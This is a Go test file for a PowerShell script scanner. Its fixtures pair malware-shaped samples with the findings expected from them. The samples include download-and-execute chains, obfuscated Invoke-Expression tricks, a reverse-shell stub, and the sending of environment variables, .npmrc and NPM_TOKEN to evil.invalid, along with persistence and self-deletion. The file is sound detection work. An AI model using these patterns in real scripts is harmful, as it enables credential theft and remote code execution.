package shell

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

// powerShellMalicious is PowerShell in the shapes that malware has, with hosts that cannot
// exist.
var powerShellMalicious = []scriptTest{
	{"download and start", `$c = New-Object System.Net.WebClient
$u = 'http://evil.invalid/' + 'a.exe'
$c.DownloadFile($u, "$env:TEMP\a.exe")
Start-Process "$env:TEMP\a.exe" -WindowStyle Hidden
`, []string{
		"reads-environment: $TEMP",
		"download: WebClient.DownloadFile http://evil.invalid/a.exe",
		"reads-environment: $TEMP",
		"background: Start-Process hidden",
		"runs-file: */a.exe",
		"download-run: file */a.exe",
		"host evil.invalid",
	}},
	{"an alias of its own", `sal x iex
x (irm http://evil.invalid/i)
`, []string{
		"download: irm http://evil.invalid/i",
		"inline-code: Invoke-Expression",
		"download-run: Invoke-Expression",
		"host evil.invalid",
	}},
	{"names in pieces", `& ('i' + 'ex') ((New-Object ('Net.' + 'WebClient')).('Down' + 'loadString').Invoke('http://evil.invalid/p'))
`, []string{
		"download: WebClient.downloadstring http://evil.invalid/p",
		"inline-code: Invoke-Expression",
		"download-run: Invoke-Expression",
		"host evil.invalid",
	}},
	{"base64", `$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('bm9kZSBhLmpz'))
iex $s
`, []string{
		"inline-code: Invoke-Expression",
		"decode-run: Invoke-Expression",
		"runs-file: node a.js",
	}},
	{"UTF-16 in base64", `iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('bgBvAGQAZQAgAGIALgBqAHMA')))
`, []string{
		"inline-code: Invoke-Expression",
		"decode-run: Invoke-Expression",
		"runs-file: node b.js",
	}},
	{"a format", `.('{1}{0}' -f 'ex', 'i') 'node c.js'
`, []string{
		"inline-code: Invoke-Expression",
		"runs-file: node c.js",
	}},
	{"characters by number", `& (-join ([char]105, [char]101, [char]120)) 'node d.js'
iex ((110,111,100,101,32,101,46,106,115 | % { [char]$_ }) -join '')
`, []string{
		"inline-code: Invoke-Expression",
		"runs-file: node d.js",
		"inline-code: Invoke-Expression",
		"decode-run: Invoke-Expression",
		"runs-file: node e.js",
	}},
	{"backwards", `$b = 'sj.f edon'.ToCharArray()
[array]::Reverse($b)
iex (-join $b)
`, []string{
		"inline-code: Invoke-Expression",
		"decode-run: Invoke-Expression",
		"runs-file: node f.js",
	}},
	{"backquotes and case", "$c = i`W`R http://evil.invalid/x; InVoKe-ExPrEsSiOn $c\n", []string{
		"download: iwr http://evil.invalid/x",
		"inline-code: Invoke-Expression",
		"download-run: Invoke-Expression",
		"host evil.invalid",
	}},
	{"a here-string", `$x = @'
node g.js
'@
Invoke-Expression $x
`, []string{
		"inline-code: Invoke-Expression",
		"runs-file: node g.js",
	}},
	{"a library from memory", `[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://evil.invalid/x.dll')).EntryPoint.Invoke($null, $null)
`, []string{
		"download: WebClient.DownloadData http://evil.invalid/x.dll",
		"download-run: Reflection.Assembly.Load",
		"native-code: Reflection.Assembly.Load",
		"host evil.invalid",
	}},
	{"decoded and written", `$b = [Convert]::FromBase64String($blob)
[IO.File]::WriteAllBytes("$env:APPDATA\x.exe", $b)
& "$env:APPDATA\x.exe"
`, []string{
		"reads-environment: $APPDATA",
		"reads-environment: $APPDATA",
		"runs-file: */x.exe",
		"decode-run: file */x.exe",
	}},
	{"unpacked and run", `$d = New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String($x), [IO.Compression.CompressionMode]::Decompress)
iex (New-Object IO.StreamReader($d, [Text.Encoding]::ASCII)).ReadToEnd()
`, []string{
		"inline-code: Invoke-Expression",
		"decode-run: Invoke-Expression",
	}},
	{"the environment is sent", `$body = Get-ChildItem env: | ConvertTo-Json
Invoke-RestMethod -Uri https://evil.invalid/c -Method Post -Body $body
`, []string{
		"reads-secrets: get-childitem (the whole environment)",
		"post: invoke-restmethod -body",
		"host evil.invalid",
	}},
	{"a continued line", "Invoke-WebRequest -UseBasicParsing -Uri http://evil.invalid/a.ps1 `\n  -OutFile $env:TEMP\\a.ps1\npowershell -ExecutionPolicy Bypass -File $env:TEMP\\a.ps1\n", []string{
		"reads-environment: $TEMP",
		"download: invoke-webrequest http://evil.invalid/a.ps1",
		"reads-environment: $TEMP",
		"runs-file: powershell */a.ps1",
		"download-run: file */a.ps1",
		"host evil.invalid",
	}},
	{"start-up places", `New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name x -Value y
Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute node)
Add-Content $PROFILE 'x'
`, []string{
		"persistence: CurrentVersion/Run",
		"persistence: register-scheduledtask",
		"persistence: Microsoft.PowerShell_profile.ps1",
	}},
	{"credentials through a pipe", `Get-Content ~\.npmrc | % { iwr "http://evil.invalid/?$_" }
`, []string{
		"reads-secrets: .npmrc",
		"post: iwr with data of the machine",
		"host evil.invalid",
	}},
	{"an encoded command", `powershell -enc bgBvAGQAZQAgAHoALgBqAHMA
`, []string{
		"decode-run: powershell -EncodedCommand",
		"inline-code: powershell -EncodedCommand",
		"runs-file: node z.js",
	}},
	{"several values", `foreach ($c in @('node x.js', 'node y.js')) { iex $c }
`, []string{
		"inline-code: Invoke-Expression",
		"runs-file: node x.js",
		"runs-file: node y.js",
	}},
	{"traces are removed", `Remove-Item $PSCommandPath
Remove-Item $MyInvocation.MyCommand.Path
Set-Content package.json '{}'
`, []string{
		"delete: itself",
		"delete: itself",
		"replace-manifest: set-content",
	}},
	{"objects of COM", `$w = New-Object -ComObject WScript.Shell
$w.Run('node a.js', 0)
$h = New-Object -ComObject Msxml2.XMLHTTP
$h.open('GET', 'http://evil.invalid/x', $false)
$h.send()
iex $h.responseText
`, []string{
		"background: WScript.Shell.Run without a window",
		"runs-file: node a.js",
		"download: msxml2.xmlhttp.open http://evil.invalid/x",
		"inline-code: Invoke-Expression",
		"download-run: Invoke-Expression",
		"host evil.invalid",
	}},
	{"a reverse shell", `$client = New-Object Net.Sockets.TCPClient('evil.invalid', 4444)
$stream = $client.GetStream()
$d = $stream.Read($b, 0, 10)
iex $d
`, []string{
		"post: net.sockets.tcpclient",
		"inline-code: Invoke-Expression",
		"download-run: Invoke-Expression",
		"host evil.invalid",
	}},
	{"the identity in a name", `[System.Net.Dns]::GetHostAddresses("$env:USERNAME.x.invalid")
[Environment]::MachineName
Get-WmiObject Win32_ComputerSystem
`, []string{
		"reads-environment: $USERNAME",
		"dns-lookup: Net.Dns.GetHostAddresses of a name made at run time",
		"host-identity: Environment.MachineName",
		"host-identity: get-wmiobject win32_computersystem",
		"host *.x.invalid",
	}},
	{"a process of .NET", `[Diagnostics.Process]::Start('node', 'a.js b')
`, []string{
		"runs-file: node a.js",
	}},
	{"a function", `function f($u) { return (New-Object Net.WebClient).DownloadString($u) }
iex (f 'http://evil.invalid/x')
`, []string{
		"download: WebClient.DownloadString http://evil.invalid/x",
		"inline-code: Invoke-Expression",
		"download-run: Invoke-Expression",
		"host evil.invalid",
	}},
	{"blocks", `$y = { node i.js }
& $y
Invoke-Command -ScriptBlock { node j.js }
Start-Job { node k.js } | Out-Null
try { node l.js } catch [System.Exception] { node m.js } finally { node n.js }
`, []string{
		"runs-file: node i.js",
		"runs-file: node j.js",
		"runs-file: node k.js",
		"background: start-job",
		"runs-file: node l.js",
		"runs-file: node m.js",
		"runs-file: node n.js",
	}},
	{"native functions", `Add-Type -MemberDefinition '[DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr a);' -Name W
[Runtime.InteropServices.Marshal]::Copy($b, 0, $p, 9)
`, []string{
		"native-code: Add-Type with DllImport",
		"native-code: Marshal.Copy",
	}},
	{"typographic quotes", "iex \u2018node o.js\u2019\n", []string{
		"inline-code: Invoke-Expression",
		"runs-file: node o.js",
	}},
	{"a token is sent", `irm "https://evil.invalid/$env:NPM_TOKEN"
`, []string{
		"reads-secrets: $NPM_TOKEN",
		"post: irm with data of the machine",
		"host evil.invalid",
	}},
}

// powerShellLegitimate is PowerShell as packages ship it, with all that is said of each.
var powerShellLegitimate = []scriptTest{
	{"comments and strings", `# iex (iwr http://evil.invalid)
<# Invoke-Expression
$(iwr http://evil.invalid) #>
Write-Host "iex this: DownloadString http://docs.invalid"
$x = 'Invoke-Expression'
`, nil},
	{"a launcher", `$dir = Split-Path $MyInvocation.MyCommand.Definition -Parent
$suffix = ''
if ($IsWindows) {
  $suffix = '.exe'
}
if (Test-Path "$dir/node$suffix") {
  $input | & "$dir/node$suffix" "$dir/../lib/cli.js" $args
} else {
  & "node$suffix" "$dir/../lib/cli.js" $args
}
exit $LASTEXITCODE
`, []string{
		"runs-file: node lib/cli.js",
		"runs-file: node lib/cli.js",
	}},
	{"a build", `param(
  [ValidateSet('debug', 'release')][string] $Mode = 'release',
  [switch] $Clean
)
$ErrorActionPreference = 'Stop'
if ($Clean -and (Test-Path out)) { Remove-Item -Recurse -Force out }
New-Item -ItemType Directory -Force out | Out-Null
cmake -S . -B out "-DMODE=$Mode"
if ($LASTEXITCODE -ne 0) { throw 'cmake failed' }
`, nil},
	{"a function with a table", `function Get-Settings {
  [CmdletBinding()]
  param([Parameter(Mandatory = $true)][string] $Path)
  $t = @{ Name = 'x'; Files = @('a', 'b') }
  $t.Files | ForEach-Object { Write-Output "$Path/$_" }
  return $t
}
Get-Settings -Path .
`, nil},
}

// powerShellCalls go through what is known of the libraries and the language.
var powerShellCalls = []scriptTest{
	{"$ExecutionContext.InvokeCommand.InvokeSc", `[ScriptBlock]::Create('node a.js').Invoke()
$ExecutionContext.InvokeCommand.InvokeScript('node b.js')
`, []string{
		"inline-code: ScriptBlock.Create",
		"runs-file: node a.js",
		"inline-code: InvokeScript",
		"runs-file: node b.js",
	}},
	{"$env:MY = 'node d.js'; iex $env:MY", `$a = 1; $a += 2; $b = @(1, 2); $b += 3; $c = 'no'; $c += 'de c.js'; iex $c
$env:MY = 'node d.js'; iex $env:MY
`, []string{
		"inline-code: Invoke-Expression",
		"runs-file: node c.js",
		"inline-code: Invoke-Expression",
		"runs-file: node d.js",
	}},
	{"Add-Type -Path lib/d.dll", `Import-Module .\lib\a.psm1
using module ./b.psm1
. .\c.ps1
Invoke-Item x.exe
Add-Type -Path lib/d.dll
`, []string{
		"runs-file: powershell lib/a.psm1",
		"runs-file: powershell b.psm1",
		"runs-file: c.ps1",
		"runs-file: x.exe",
		"runs-file: Add-Type lib/d.dll",
	}},
	{"[IO.File]::WriteAllText('package.json', ", `[IO.File]::ReadAllText("$HOME\.npmrc")
[IO.File]::Delete('a.ps1')
[IO.File]::Copy('a.json', 'package.json')
[IO.File]::WriteAllText('package.json', '{}')
`, []string{
		"reads-secrets: .npmrc",
		"delete: a.ps1",
		"replace-manifest: IO.File.Copy a.json",
		"replace-manifest: IO.File.WriteAllText",
	}},
	{"[Environment]::UserName", `[Environment]::GetEnvironmentVariable('NPM_TOKEN')
[Environment]::GetEnvironmentVariables()
[Environment]::UserName
`, []string{
		"reads-secrets: $NPM_TOKEN",
		"reads-secrets: Environment.GetEnvironmentVariables (the whole environment)",
		"host-identity: Environment.UserName",
	}},
	{"[Net.WebClient]::new().UploadString('htt", `$r = [Net.WebRequest]::Create('http://a.invalid').GetResponse()
(New-Object Net.Http.HttpClient).PostAsync('http://b.invalid', $x)
[Net.WebClient]::new().UploadString('http://c.invalid', 'x')
`, []string{
		"download: WebRequest.GetResponse http://a.invalid",
		"post: WebClient.PostAsync http://b.invalid",
		"post: WebClient.UploadString http://c.invalid",
		"host a.invalid",
		"host b.invalid",
		"host c.invalid",
	}},
	{"Get-Clipboard; Get-ComputerInfo; Send-Ma", `Get-Clipboard; Get-ComputerInfo; Send-MailMessage -To a; New-Service -Name x; Start-Process https://docs.invalid; start notepad
`, []string{
		"reads-secrets: get-clipboard",
		"host-identity: get-computerinfo",
		"post: send-mailmessage",
		"persistence: new-service",
		"background: Start-Process",
		"host docs.invalid",
	}},
	{"Get-WmiObject -Class Win32_OperatingSyst", `Invoke-Command -ComputerName h -ScriptBlock { node a.js }
Set-Variable -Name q -Value 'node b.js'
iex $q
Get-WmiObject -Class Win32_OperatingSystem
`, []string{
		"runs-file: node a.js",
		"inline-code: Invoke-Expression",
		"runs-file: node b.js",
	}},
	{"class K { [void] Run() { node f.js } }", `for ($i = 0; $i -lt 2; $i++) { node a.js }
while ($true) { node b.js }
switch -regex ($x) { '^a' { node c.js } default { node d.js } }
filter g { node e.js }
class K { [void] Run() { node f.js } }
`, []string{
		"runs-file: node a.js",
		"runs-file: node b.js",
		"runs-file: node c.js",
		"runs-file: node d.js",
		"runs-file: node f.js",
		"runs-file: node e.js",
	}},
	{"node a.js 2>&1 > log.txt; node b.js *> $", `node a.js 2>&1 > log.txt; node b.js *> $null; node c.js | Out-Null; 'x' | Set-Content ~/.bashrc
`, []string{
		"runs-file: node a.js",
		"discard-output: stdout and stderr",
		"runs-file: node b.js",
		"runs-file: node c.js",
		"discard-output: stdout",
		"persistence: .bashrc",
	}},
	{"& cmd /c 'curl a.invalid'; & 'C:\\x y\\nod", `& cmd /c 'curl a.invalid'; & 'C:\x y\node.exe' b.js; & "$env:ProgramFiles\nodejs\node.exe" c.js; node --% d.js %x%
`, []string{
		"download: curl a.invalid",
		"runs-file: node b.js",
		"reads-environment: $ProgramFiles",
		"runs-file: node c.js",
		"runs-file: node d.js",
		"host a.invalid",
	}},
	{"if (-not (Test-Path a)) { node a.js } el", `if (-not (Test-Path a)) { node a.js } elseif ($b) { node b.js } else { node c.js } node d.js
`, []string{
		"runs-file: node a.js",
		"runs-file: node b.js",
		"runs-file: node c.js",
		"runs-file: node d.js",
	}},
	{"$w | % { $_.DownloadFile('http://c.inval", `$m = 'Down' + 'loadString'
$w = New-Object Net.WebClient
$w.$m('http://a.invalid')
$w."DownloadData"('http://b.invalid')
$w | % { $_.DownloadFile('http://c.invalid', 'x') }
`, []string{
		"download: WebClient.DownloadString http://a.invalid",
		"download: WebClient.DownloadData http://b.invalid",
		"download: WebClient.DownloadFile http://c.invalid",
		"host a.invalid",
		"host b.invalid",
		"host c.invalid",
	}},
	{"return node g.js", `node a.js && node b.js || node c.js
node d.js; $x = if ($y) { node e.js } else { node f.js }
return node g.js
`, []string{
		"runs-file: node a.js",
		"runs-file: node b.js",
		"runs-file: node c.js",
		"runs-file: node d.js",
		"runs-file: node e.js",
		"runs-file: node f.js",
		"runs-file: node g.js",
	}},
	{"iex ([Security.Cryptography.Aes]::Create", `[Text.Encoding]::Unicode.GetBytes('a')
[Security.Cryptography.SHA256]::Create().ComputeHash($b)
iex ([Security.Cryptography.Aes]::Create().CreateDecryptor().TransformFinalBlock($b, 0, 9))
`, []string{
		"inline-code: Invoke-Expression",
		"decode-run: Invoke-Expression",
	}},
}

func TestPowerShell(t *testing.T) {
	checkScripts(t, LanguagePowerShell, "bin/x.ps1", powerShellMalicious)
	checkScripts(t, LanguagePowerShell, "bin/x.ps1", powerShellLegitimate)
	checkScripts(t, LanguagePowerShell, "bin/x.ps1", powerShellCalls)
}

// TestPowerShellValues goes through the expressions whose values are computed.
// A star stands for what stays unknown.
func TestPowerShellValues(t *testing.T) {
	tests := []struct{ expression, want string }{
		{`'a' + "b"`, "ab"},
		{`"$x-${x}-$($x + 'b')"`, "one-one-oneb"},
		{`'it''s' + "a""b"`, `it'sa"b`},
		{"\"a`tb`$x\"", "a\tb$x"},
		{`'{1}-{0}{{}}' -f 'a', 'b'`, "b-a{}"},
		{`'a', 'b', 'c' -join '+'`, "a+b+c"},
		{`-join ('a', 'b')`, "ab"},
		{`[string][char]97 + [char]0x62`, "ab"},
		{`-join [char[]](97, 98)`, "ab"},
		{`[string]::Join('', ('a', 'b'))`, "ab"},
		{`[string]::Format('{0}{1}', 'a', 'b')`, "ab"},
		{`'aXb'.Replace('X', '-')`, "a-b"},
		{`'aXb' -replace 'X', '-'`, "a-b"},
		{`'a.b' -replace '.', '-'`, "*"},
		{`'ABC'.ToLower().Substring(1, 1)`, "b"},
		{`'a,b'.Split(',')[1]`, "b"},
		{`('a,b' -split ',')[-1]`, "b"},
		{`'abc'[0, 2] -join ''`, "ac"},
		{`-join 'cba'[-1..-3]`, "abc"},
		{`(97..99 | ForEach-Object { [char]$_ }) -join ''`, "abc"},
		{`('98', '99' | % { [char][int]$_ }) -join ''`, "bc"},
		{`[char](100 -bxor 5)`, "a"},
		{`[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('YWI='))`, "ab"},
		{`[Text.Encoding]::UTF8.GetString([byte[]](97, 98))`, "ab"},
		{`@{ k = 'v' }.k + @{ 'a b' = 'w' }['a b']`, "vw"},
		{`@('a', 'b')[1]`, "b"},
		{`[Convert]::ToChar([Convert]::ToInt32('61', 16))`, "a"},
		{`(3 * 4 + 5) - 2`, "15"},
		{`'a' * 3`, "aaa"},
		{`(Join-Path $PSScriptRoot 'y')`, "bin/y"},
		{`(Split-Path -Leaf 'a/b.js')`, "b.js"},
		{`(Read-Host)`, "*"},
		{`"a$(Read-Host)b"`, "a*b"},
		{`$missing`, "*"},
	}
	for _, test := range tests {
		text := "$x = 'one'\n$e = " + test.expression + "\n& curl \"http://h.invalid/[$e]\"\n"
		if got := fetched(ParseScript(LanguagePowerShell, text, "bin/x.ps1")); got != test.want {
			t.Errorf("%s is %q, want %q", test.expression, got, test.want)
		}
	}
}

func TestPowerShellPositions(t *testing.T) {
	text := "# \u00e9\r\n" +
		"$s = '\u00e9\U0001F600'; iwr http://a.invalid\r\n" +
		"if ($x) {\r\n  curl b.invalid |\r\n    iex\r\n}\r\n" +
		"iex 'nc c.invalid 1'\r\n"
	want := []Act{
		{Kind: KindDownload, Line: 2, Column: 13, Text: "iwr http://a.invalid", Detail: "iwr http://a.invalid"},
		{Kind: KindDownload, Line: 4, Column: 3, Text: "curl b.invalid |", Detail: "curl b.invalid"},
		{Kind: KindInlineCode, Line: 5, Column: 5, Text: "curl b.invalid |\r\n    iex", Detail: "Invoke-Expression"},
		{Kind: KindDownloadRun, Line: 5, Column: 5, Text: "curl b.invalid |\r\n    iex", Detail: "Invoke-Expression"},
		{Kind: KindInlineCode, Line: 7, Column: 1, Text: "iex 'nc c.invalid 1'", Detail: "Invoke-Expression"},
		{Kind: KindPost, Line: 7, Column: 6, Text: "nc c.invalid 1", Detail: "nc"},
	}
	if diff := cmp.Diff(want, ParseScript(LanguagePowerShell, text, "x.ps1").Acts); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}
